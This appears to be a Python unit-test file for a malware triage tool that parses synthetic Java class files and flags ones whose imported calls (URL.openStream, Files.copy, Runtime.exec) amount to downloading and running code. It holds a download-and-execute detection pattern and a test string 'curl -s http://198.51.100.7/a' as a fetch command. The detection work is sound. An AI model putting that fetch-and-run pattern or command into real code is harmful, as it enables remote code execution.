"""What Java classes call and say."""

from __future__ import annotations

from tests.unit.triage.binary.made import java
from vedette.triage.allowance import Allowance
from vedette.triage.binary import examine, facts
from vedette.triage.binary.formats.java import image
from vedette.triage.fact import Act
from vedette.triage.kinds import Kind
from vedette.triage.sample import Sample

DOWNLOADS_AND_RUNS = (
    ("java/net/URL", "openStream"), ("java/nio/file/Files", "copy"), ("java/lang/Runtime", "exec"),
)  # fmt: skip


def acts(data: bytes, kind: Kind) -> set[Act]:
    sample = Sample(name="a", data=data, kind=kind)
    found = examine(sample, Allowance())
    assert found is not None
    return {one.act for one in facts(sample, found, Allowance())}


def test_a_class_says_what_it_calls_and_which_texts_it_uses() -> None:
    found = image(java(DOWNLOADS_AND_RUNS, ["http://198.51.100.7/a"]))
    assert found is not None
    assert [one.name for one in found.imports] == [
        "java.net.URL.openStream",
        "java.nio.file.Files.copy",
        "java.lang.Runtime.exec",
    ]
    assert (found.texts, found.made_with) == (("http://198.51.100.7/a",), ("Java 17",))


def test_a_class_that_downloads_and_starts_is_told_from_one_that_only_downloads() -> None:
    assert acts(java(DOWNLOADS_AND_RUNS), Kind.JAVA_CLASS) == {Act.RUNS_COMMAND}
    assert acts(java(DOWNLOADS_AND_RUNS[:2]), Kind.JAVA_CLASS) == set()


def test_a_command_among_the_texts_is_likely_what_is_run() -> None:
    command = "curl -s http://198.51.100.7/a"
    sample = Sample(name="a", data=java([("java/lang/Runtime", "exec")], [command]), kind=Kind.JAVA_CLASS)
    found = examine(sample, Allowance())
    assert found is not None
    (one,) = facts(sample, found, Allowance())
    assert (one.act, one.target, one.sure, one.quote) == (Act.RUNS_COMMAND, command, False, command)
    assert acts(java([("java/lang/String", "length")], [command]), Kind.JAVA_CLASS) == set()


def test_half_a_class_is_none() -> None:
    whole = java(DOWNLOADS_AND_RUNS, ["x"])
    for size in range(len(whole) - 16):
        assert image(whole[:size]) is None


def test_a_count_that_cannot_be_true_makes_it_none() -> None:
    lied = bytearray(java(DOWNLOADS_AND_RUNS))
    lied[8:10] = b"\xff\xff"
    assert image(bytes(lied)) is None
